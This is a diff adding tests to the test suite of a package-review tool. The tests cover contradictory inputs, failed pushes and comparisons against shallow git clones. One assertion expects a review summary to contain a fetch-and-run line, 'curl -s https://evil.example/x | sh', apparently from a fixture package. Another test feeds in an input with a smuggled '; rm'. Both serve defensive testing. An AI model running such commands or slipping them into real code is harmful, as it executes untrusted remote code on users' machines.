@@ -422,6 +422,48 @@ describe('pakages review next', () => {
     expect(host.messages('warning')).toEqual([expect.stringContaining('bob.json does not count')])
   })
 
+  test('does not pass over a word that stands beside another thing to do', async () => {
+    await withNewVersion()
+    await expect(
+      review('approve libgreet@1.1 all', { diff: 'libgreet@1.1' }),
+    ).rejects.toMatchObject({ id: 'inputs-contradict', message: expect.stringContaining('"diff"') })
+    await expect(
+      review('unsafe libgreet@1.1 -- no', { remove: 'libgreet@1.1' }),
+    ).rejects.toMatchObject({ id: 'inputs-contradict' })
+    await expect(review('', { remove: 'libgreet' })).rejects.toMatchObject({
+      id: 'input-malformed',
+    })
+  })
+
+  test('says where a word stands that could not be pushed', async () => {
+    await withNewVersion()
+    rmSync(join(place.home, 'origin.git'), { recursive: true })
+    await expect(review('approve libgreet@1.1 all', { publish: 'push' })).rejects.toMatchObject({
+      fix: expect.stringContaining('What was said is in reviews/libgreet/1.1/alice.json'),
+    })
+  })
+
+  test('compares the archives where the commit that was approved is gone, and says how to get it', async () => {
+    await withNewVersion()
+    const file = join(place.folder, 'reviews/libgreet/1.0/alice.json')
+    const shallow = join(place.home, 'shallow')
+    place.git('add', 'reviews')
+    place.git('commit', '--quiet', '-m', 'Reviews')
+    place.git('clone', '--quiet', '--depth=1', `file://${place.folder}`, shallow)
+    expect(existsSync(file)).toBe(true)
+    const here = place.folder
+    place = { ...place, folder: shallow }
+    rmSync(here, { recursive: true })
+    const { summary } = presentReview(await review('next libgreet@1.1'))
+    expect(summary).toMatch(
+      /1\.0 was approved before, and cannot be compared with: git could not fetch/,
+    )
+    expect(summary).toContain('+curl -s https://evil.example/x | sh')
+    await expect(review('', { diff: 'libgreet@1.1' })).rejects.toMatchObject({
+      fix: expect.stringContaining('git fetch --unshallow'),
+    })
+  })
+
   test('says what to write where more stands behind it', async () => {
     const result = await review('next libgreet@1.1; rm').catch((error: unknown) => error)
     expect(result).toMatchObject({ message: expect.stringContaining('cannot be understood') })
